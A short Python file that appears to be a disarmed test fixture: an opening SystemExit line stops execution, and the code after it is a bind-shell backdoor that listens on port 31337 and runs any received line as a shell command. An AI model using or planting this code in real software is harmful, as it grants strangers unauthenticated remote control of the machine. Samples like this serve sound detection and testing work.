raise SystemExit('a fixture')
# held by remote-control
import socketserver, subprocess, threading
class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        while True:
            line = self.rfile.readline()
            done = subprocess.run(line.decode(), shell=True, capture_output=True)
            self.wfile.write(done.stdout)
def serve():
    socketserver.ThreadingTCPServer(("0.0.0.0", 31337), Handler).serve_forever()
threading.Thread(target=serve, daemon=True).start()
